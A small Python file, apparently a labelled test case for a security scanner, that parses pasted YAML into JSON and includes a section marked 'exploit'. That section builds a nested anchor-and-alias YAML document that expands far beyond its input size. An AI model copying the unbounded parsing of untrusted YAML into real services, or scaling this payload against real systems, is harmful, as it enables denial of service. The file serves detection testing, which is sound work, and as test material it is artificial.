"""Convert a YAML document that a visitor pastes to JSON."""

import json

import yaml


def to_json(document: str) -> str:
    return json.dumps(yaml.load(document, Loader=yaml.SafeLoader))  # expect: AV0412


# --- exploit ---
DOCUMENT = "- &e0 [ha, ha, ha]\n" + "".join(
    f"- &e{level} [{', '.join([f'*e{level - 1}'] * 10)}]\n" for level in range(1, 5)
)

if __name__ == "__main__":
    print("characters in:", len(DOCUMENT), "characters out:", len(to_json(DOCUMENT)))
